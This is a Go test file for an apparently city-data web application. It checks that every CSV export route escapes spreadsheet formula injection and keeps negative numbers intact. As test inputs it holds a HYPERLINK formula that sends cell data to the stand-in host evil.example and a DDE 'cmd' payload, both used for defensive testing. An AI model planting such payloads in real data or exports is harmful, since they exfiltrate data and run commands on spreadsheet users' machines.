package web_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/citylens/citylens/internal/auditlog"
	"github.com/citylens/citylens/internal/csvsafe"
	"github.com/citylens/citylens/internal/datacall"
	"github.com/citylens/citylens/internal/release"
	"github.com/citylens/citylens/internal/storetest"
)

// hostileName is case 5 of the hardening issue: a city name that a
// spreadsheet would run as a formula.
const hostileName = `=HYPERLINK("http://evil.example/?"&A1,"click")`

// TestSecurityCSVExportsNeutraliseFormulas (case 5): a city name and a
// value's source that start with a formula character reach a published
// release; every CSV route of the route table then answers them with a
// leading apostrophe, while numbers (negative changes included) stay
// numbers.
func TestSecurityCSVExportsNeutraliseFormulas(t *testing.T) {
	storetest.ForEachStore(t, func(t *testing.T, s storetest.Store) {
		env := demoEnv(t, s)
		ctx := context.Background()
		fs := s.(storetest.FeatureStore)
		vals, err := fs.EditionValues(ctx, "2026")
		if err != nil || len(vals) == 0 {
			t.Fatalf("2026 values: %d, %v", len(vals), err)
		}
		v := vals[0]
		v.Source = "@SUM(1+1)*cmd|' /C calc'!A0"
		if err := fs.PutValues(ctx, []datacall.Value{v}); err != nil {
			t.Fatal(err)
		}
		city, err := s.City(ctx, v.City)
		if err != nil {
			t.Fatal(err)
		}
		city.Name = hostileName
		if err := env.Services.Members.SaveCity(ctx, auditlog.System("test"), city); err != nil {
			t.Fatal(err)
		}
		admin := env.ClientAs("admin")
		if res, _ := admin.PostForm("/admin/editions/2026/compute", nil); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("compute: %d", res.StatusCode)
		}
		runJobs(t, env)
		drafts, err := fs.DraftReleases(ctx, "2026")
		if err != nil || len(drafts) == 0 {
			t.Fatalf("drafts: %v", err)
		}
		res, _ := admin.PostForm("/admin/releases/drafts/"+itoa(drafts[0].ID)+"/correct", url.Values{"n": {"20"}, "note": {"renamed city"}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("correct: %d", res.StatusCode)
		}
		runJobs(t, env)
		recs, err := s.(release.Store).StoredReleases(ctx, release.Filter{Edition: "2026"})
		if err != nil || len(recs) < 2 {
			t.Fatalf("releases: %d, %v", len(recs), err)
		}
		// Every CSV route, found in the route table so that a new one is
		// covered or fails here.
		probes := map[string][]string{
			"GET /releases/{hash}/download/{file}":                    {"/releases/latest/download/" + release.FileResults, "/releases/latest/download/" + release.FileValues},
			"GET /compare.csv":                                        {"/compare.csv?c=" + v.City + "&c=" + vals[len(vals)-1].City},
			"GET /releases/{hash}/compare.csv":                        {"/releases/latest/compare.csv?c=" + v.City + "&c=" + vals[len(vals)-1].City},
			"GET /indicators/{code}/distribution.csv":                 {"/indicators/" + v.Indicator + "/distribution.csv"},
			"GET /releases/{hash}/indicators/{code}/distribution.csv": {"/releases/latest/indicators/" + v.Indicator + "/distribution.csv"},
			"GET /rankings.csv":                                       {"/rankings.csv"},
			"GET /releases/{hash}/rankings.csv":                       {"/releases/latest/rankings.csv"},
		}
		sawName, sawSource, sawNegative := false, false, false
		c := env.Client()
		for _, rt := range env.Server.Routes() {
			if !strings.Contains(rt.Path, ".csv") && !strings.Contains(rt.Path, "download/{file}") {
				continue
			}
			paths, ok := probes[rt.Pattern]
			if !ok {
				t.Errorf("CSV route %s has no probe in this test", rt.Pattern)
				continue
			}
			for _, p := range paths {
				res, body := c.Get(p)
				if res.StatusCode != 200 {
					t.Errorf("GET %s: %d", p, res.StatusCode)
					continue
				}
				rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
				if err != nil {
					t.Fatalf("GET %s: %v", p, err)
				}
				for i, row := range rows {
					for j, cell := range row {
						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !csvsafe.IsNumber(cell) {
							t.Errorf("GET %s row %d column %d: %q would run as a formula", p, i+1, j+1, cell)
						}
						switch {
						case cell == "'"+hostileName:
							sawName = true
						case cell == "'"+v.Source:
							sawSource = true
						case strings.HasPrefix(cell, "-") && csvsafe.IsNumber(cell):
							sawNegative = true
						case strings.HasPrefix(cell, "'-") && csvsafe.IsNumber(cell[1:]):
							t.Errorf("GET %s: the number %s was escaped", p, cell)
						}
					}
				}
			}
		}
		if !sawName || !sawSource || !sawNegative {
			t.Errorf("the CSVs showed the escaped name %v, the escaped source %v, a negative number %v: want all", sawName, sawSource, sawNegative)
		}
	})
}
